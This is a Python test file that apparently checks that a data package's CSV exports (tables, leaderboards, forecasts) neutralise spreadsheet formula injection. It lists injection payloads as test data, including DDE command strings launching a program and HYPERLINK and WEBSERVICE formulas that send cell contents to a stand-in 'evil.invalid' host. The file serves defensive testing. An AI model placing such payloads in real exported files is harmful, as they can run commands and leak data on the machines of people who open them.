"""Cells that a spreadsheet would run, in every table that leaves."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from scs_ml.data import load_frame, write_frame
from tests.adversarial.attempts import document, scheme, table

FORMULAS = {
    "a command": "=cmd|' /C calc'!A0",
    "a link": '=HYPERLINK("http://evil.invalid?x="&A1,"here")',
    "a web service": '=WEBSERVICE("http://evil.invalid")',
    "a plus": "+1+cmd|' /C calc'!A0",
    "a minus": "-2+3+cmd|' /C calc'!A0",
    "an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a tab before": "\t=1+1",
    "a return before": "\r=1+1",
    "a line end before": "\n=1+1",
    "a wide sign": "\uff1d1+1",
    "a wide plus": "\uff0b1+1",
    "an apostrophe before": "'=1+1",
    "only the sign": "=",
    "a quote and a separator": '";=1+1;"',
}
ACTIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def cells(path):
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def is_active(cell):
    if not cell.startswith(ACTIVE):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


@pytest.mark.parametrize("what", FORMULAS)
def test_a_formula_in_a_cell_and_a_header(attempt, what):
    frame = pd.DataFrame({"label": [FORMULAS[what], "plain", "-5"], FORMULAS[what] + "x": [1.5, -2.0, 3.0]})
    path = attempt.folder / "t.csv"
    attempt.neutralised(lambda: write_frame(frame, path))
    assert not [cell for cell in cells(path) if is_active(cell)]
    back, _ = load_frame(path)
    assert back["label"].tolist() == frame["label"].tolist()  # and read as it was written


@pytest.mark.parametrize("what", ["a command", "a link", "an at", "a wide sign"])
def test_a_formula_as_category_in_a_leaderboard(attempt, what):
    from scs_ml.data import read_table
    from scs_ml.workflow import evaluate, save_evaluation
    from tests.adversarial.attempts import KEY

    categories = [FORMULAS[what], "middle", "high"]
    card = scheme(scale={**document()["scale"], "categories": categories})
    data = read_table(table(120, region=FORMULAS[what]), card, key=KEY)
    evaluation = evaluate(data, card, families=("logit",), n_folds=2)
    attempt.neutralised(lambda: save_evaluation(evaluation, attempt.folder / "board"))
    written = sorted((attempt.folder / "board").glob("*.csv"))
    assert written
    assert not [(each.name, cell) for each in written for cell in cells(each) if is_active(cell)]


def test_a_formula_in_a_forecast_file(attempt, lender):
    from scs_ml.storage import Bundle
    from scs_ml.workflow import forecast_table

    frame = forecast_table(Bundle(lender.trained.forecaster, lender.scheme, {"metadata": {}}), lender.dataset)
    frame["why"] = "=1+1"
    attempt.neutralised(lambda: write_frame(frame, attempt.folder / "f.csv"))
    assert not [cell for cell in cells(attempt.folder / "f.csv") if is_active(cell)]


def test_numbers_stay_numbers(attempt):
    frame = pd.DataFrame({"effect": [-0.5, 1e-300, -3e5], "text": ["-5", "+1.5e3", "-.5"]})
    attempt.handled(lambda: write_frame(frame, attempt.folder / "t.csv"))
    back = pd.read_csv(io.BytesIO((attempt.folder / "t.csv").read_bytes()))
    assert back["effect"].tolist() == frame["effect"].tolist()
    assert back["text"].tolist() == [-5.0, 1500.0, -0.5]
